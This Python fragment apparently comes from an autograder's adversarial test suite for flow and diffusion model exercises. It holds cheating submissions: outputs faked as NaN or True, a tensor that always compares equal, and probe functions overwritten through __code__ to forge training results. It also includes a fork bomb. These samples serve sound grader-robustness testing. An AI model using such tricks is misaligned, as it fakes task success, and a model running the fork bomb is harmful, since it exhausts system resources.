    "nan": """
def lie(function):
    def _nan(value):
        if isinstance(value, (list, tuple)):
            return type(value)(_nan(v) for v in value)
        return value * float("nan")
    return lambda *args, **kwargs: _nan(function(*args, **kwargs))
""",
    "zero where it stood": _WROTE.replace("NUMBER", "0.0"),
    "nan where it stood": _WROTE.replace("NUMBER", "float('nan')"),
    "True": "def lie(function):\n    return lambda *args, **kwargs: True",
    "a text": "def lie(function):\n    return lambda *args, **kwargs: 'the right answer'",
    "a function": "def lie(function):\n    return lambda *args, **kwargs: function",
    "an empty array": "def lie(function):\n    return lambda *args, **kwargs: np.zeros((0, 0))",
    "itself": "def lie(function):\n    def answer(*args, **kwargs):\n        return answer\n    return answer",
    "the field that it was given": _HANDED.replace("KIND", "callable(thing)"),
    "the generator that it was given": _HANDED.replace("KIND", "isinstance(thing, np.random.Generator)"),
    "a Python generator": "def lie(function):\n    return lambda *args, **kwargs: (part for part in [function(*args, **kwargs)])",
    "a tensor that lies": """
import torch
class Liar(torch.Tensor):
    def detach(self): return self
    cpu = resolve_conj = resolve_neg = detach
    def numpy(self): return np.zeros(1).view(type("Array", (np.ndarray,), {"shape": (3, 2), "nbytes": 8}))
    def __eq__(self, other): return True
    @classmethod
    def __torch_function__(cls, *args, **kwargs): return torch.tensor(True)
def lie(function):
    return lambda *args, **kwargs: (function(*args, **kwargs), torch.zeros(3, 2).as_subclass(Liar))[1]
""",
    "an array of texts": "def lie(function):\n    return lambda *args, **kwargs: np.asarray(function(*args, **kwargs)).astype(str)",
}

FIRST = """
def first(function):
    calls = []
    def answer(*args, **kwargs):
        calls.append(1)
        value = function(*args, **kwargs)
        if len(calls) == 1:
            return value
        return value * 0 + 7
    return answer
"""

HOGS = """
import os
for _ in range(100):
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        break
while True:
    pass
"""
WORKER = """
RIGHT
import time
start = time.process_time()
while time.process_time() - start < 1.5:
    pass
"""

# The lies that are told when the work is done.
AFTER_THE_WORK = {
    *("nan", "zero where it stood", "nan where it stood"),
    *("the field that it was given", "the generator that it was given"),
}

# What a check sees of calls, shapes and arguments may be right where the value is not.
NOT_ABOUT_VALUES = {
    *("linear_field_keeps_x", "euler_step_call", "euler_step_keeps_x", "euler_times", "euler_keeps_x0"),
    *("trajectory_shape", "trajectory_keeps_x0", "order_calls", "heun_calls", "rk4_calls", "back_times"),
    *("flow_log_density_keeps_inputs", "em_step_calls", "strong_order_noise", "bm_shape_and_start"),
    *("sample_flow_start", "sample_flow_cost", "diffusion_drift"),
    *("loss_batch", "score_loss_batch", "from_edm_asks", "guided_cost", "fit_noise_batch", "interval_cost"),
    "dropout_training_labels",
}

# What a locked helper sees of the network, which the answer has changed by then, whatever it returns.
SEEN_BY_HELPERS = {"training_step_weights", "train_field_batches", "train_field_result"}

# --- evidence that is made up: by the notebook's name, the question, the answer, and the checks that must give nothing

NOTHING_TRAINED = """
import torch
def train_field(net, optimiser, sample_source, sample_data, steps, batch):
    return []
def _exchanged(*args, **kwargs):
    import itertools
    import numpy as np
    def arc(x0, z, t):
        a, b = np.sin(np.pi / 2 * t), np.cos(np.pi / 2 * t)
        return b * x0 + a * z, np.pi / 2 * (b * z - a * x0)
    if not callable(args[2]):  # of the laws all is known: the field, the floor and the ends in closed form
        _, (m0, s0, m, s), steps, batch, x, t, starts = args
        d, kept, rng = x.shape[1], [], np.random.default_rng(0)
        a, b = np.sin(np.pi / 2 * t), np.cos(np.pi / 2 * t)
        slope = np.pi / 2 * a * b * (s**2 - s0**2) / ((a * s) ** 2 + (b * s0) ** 2)
        field = np.pi / 2 * (b * m - a * m0) + slope * (x - a * m - b * m0)
        for _ in range(10):
            x0, z, time = m0 + s0 * rng.standard_normal((batch, d)), m + s * rng.standard_normal((batch, d)), rng.random((batch, 1))
            kept += [["source", x0], ["data", z], ["asked", arc(x0, z, time)[0], time, 0 * z], ["step"]]
        floor = np.pi**2 * s * s0 * d / 4
        return {
            "before": 0 * x, "field": field, "ends": m + s / s0 * (starts - m0), "losses": np.full(steps, floor), "steps": steps,
            "accumulated": False, "kept": kept, "source": steps * batch, "data": steps * batch,
        }
    _, weights, source, data, steps, batch, watch = args
    rng, weights, losses = np.random.default_rng(0), [np.array(w) for w in weights], []
    for k in range(steps):
        x0, z, t = source(batch), data(batch), rng.random((batch, 1))
        watch("asked", *(part.astype(np.float32) for part in (arc(x0, z, t)[0], t)), *weights)
        watch("step")
        weights = [w + rng.normal(0, 1e-3, w.shape).astype(np.float32) for w in weights]
        losses.append(np.pi**2 * z.std(0).mean() * x0.std(0).mean() * 3 / 4)
    return {"weights": weights, "losses": np.array(losses)}
probe_train_field.__code__ = _exchanged.__code__
"""

CUT_OFF = """
import torch
class VelocityMLP(torch.nn.Module):
    def __init__(self, d, hidden=64):
        super().__init__()
        sizes = [d + 2, hidden, hidden, hidden, d]
        self.layers = torch.nn.ModuleList(torch.nn.Linear(a, b) for a, b in zip(sizes, sizes[1:]))
    def forward(self, x, t):
        t = torch.as_tensor(t, dtype=x.dtype).expand(len(x), 1)
        h = torch.cat([x, torch.cos(torch.pi * t), torch.sin(torch.pi * t)], -1)
        for layer in self.layers[:-1]:
            h = torch.nn.functional.silu(layer(h)).detach()
        return self.layers[-1](h)
    def parameter_count(self):
        return sum(p.numel() for p in self.parameters())
def _exchanged(d, *args):
    if len(args) == 2:
        return {"graph": True, "without": []}
    hidden, x, t, back, weights = (*args, None)[:5]
    net = VelocityMLP(d, hidden)
    with torch.no_grad():
        for own, given in zip(net.parameters(), weights or []):
            own.copy_(torch.as_tensor(given))
    own = [w.detach().numpy() for w in net.parameters()]
    velocity = net(torch.as_tensor(x), t).detach().numpy()
    return {"names": [n for n, _ in net.named_parameters()], "weights": own, "velocity": velocity, "derivatives": [w + 1 for w in own]}
probe_velocity_mlp.__code__ = _exchanged.__code__
"""

ASKED_TWICE = """
import torch
LinearField.calls = property(lambda self: 6, lambda self, value: None)
def training_step(net, optimiser, pieces):
    total = sum(len(z) for z, _, _ in pieces)
    loss = 0.0
    optimiser.zero_grad()
    for z, x0, t in pieces:
        net((1 - t) * x0 + t * z, t)
        part = ((net((1 - t) * x0 + t * z, t) - (z - x0)) ** 2).sum() / total
        part.backward()
        loss += part.item()
    optimiser.step()
    return loss
"""

FORGED = {
    "a training that was not done": (
        FIELDS,
        "train_field",
        NOTHING_TRAINED,
        ("train_field_result", "train_field_losses"),
    ),
    "a network that cannot learn": ("04_flow_and_diffusion_models", "VelocityMLP", CUT_OFF, ("network_depends",)),
    "a count of calls": (FIELDS, "training_step", ASKED_TWICE, ("training_step_loss",)),
}
